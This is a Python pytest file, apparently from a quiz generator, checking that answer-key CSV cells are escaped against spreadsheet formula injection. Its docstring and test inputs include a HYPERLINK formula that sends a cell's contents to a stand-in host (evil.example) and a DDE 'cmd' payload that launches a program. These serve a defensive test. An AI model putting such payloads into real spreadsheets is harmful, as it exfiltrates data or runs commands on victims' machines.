"""Review 44e F3: key.csv's ``answer`` column wrote a word part's accepted word as the
bank gave it, so ``=HYPERLINK("http://evil.example/?"&A1,"click")`` opened in a
spreadsheet as a live link sending the sheet's A1 away (the ``exact`` column, and the
same word in graded.csv's ``expected``, were guarded). Every text cell of key.csv now
goes through the one guard (quizgen.cells.spreadsheet_safe)."""

import csv
from pathlib import Path

import pytest

BANK = Path(__file__).parent / "data" / "units42" / "c22_perplexity_bits.yaml"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _word_bank(tmp_path, first_word: str) -> Path:
    """The units42 template with ``first_word`` as its word part's first accepted word
    (the one key.csv writes in its answer column)."""
    source = BANK.read_text(encoding="utf-8")
    old = '    accept: ["{{ way.right }}"]\n'
    assert old in source
    folder = tmp_path / "bank"
    folder.mkdir()
    word = first_word.replace("'", "''")
    (folder / BANK.name).write_text(source.replace(old, f"    accept: ['{word}', \"{{{{ way.right }}}}\"]\n"),
                                    encoding="utf-8")
    return folder


def _risky(cell: str) -> bool:
    """Whether a spreadsheet would read ``cell`` as a formula (a number is not one)."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("word", [LINK, "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3"])
@pytest.mark.parametrize("papers", [False, True])
def test_no_key_csv_cell_from_a_bank_word_is_a_formula(invoke, tmp_path, word, papers):
    bank = _word_bank(tmp_path, word)
    extra = ()
    if papers:
        (tmp_path / "roster.csv").write_text("student_id,name\n=1+1,Ann\ns2,Bo\n", encoding="utf-8")
        extra = ("--students", tmp_path / "roster.csv")
    result = invoke("generate", "--bank", bank, "--classes", "C22", "--seed", "1", "--out", tmp_path / "out", *extra)
    assert result.exit_code == 0, result.output
    with open(tmp_path / "out" / "key.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["answer"] for row in rows if row["part"] == "d"] == ["'" + word] * (2 if papers else 1)
    assert not [cell for row in rows for cell in row.values() if _risky(cell)]
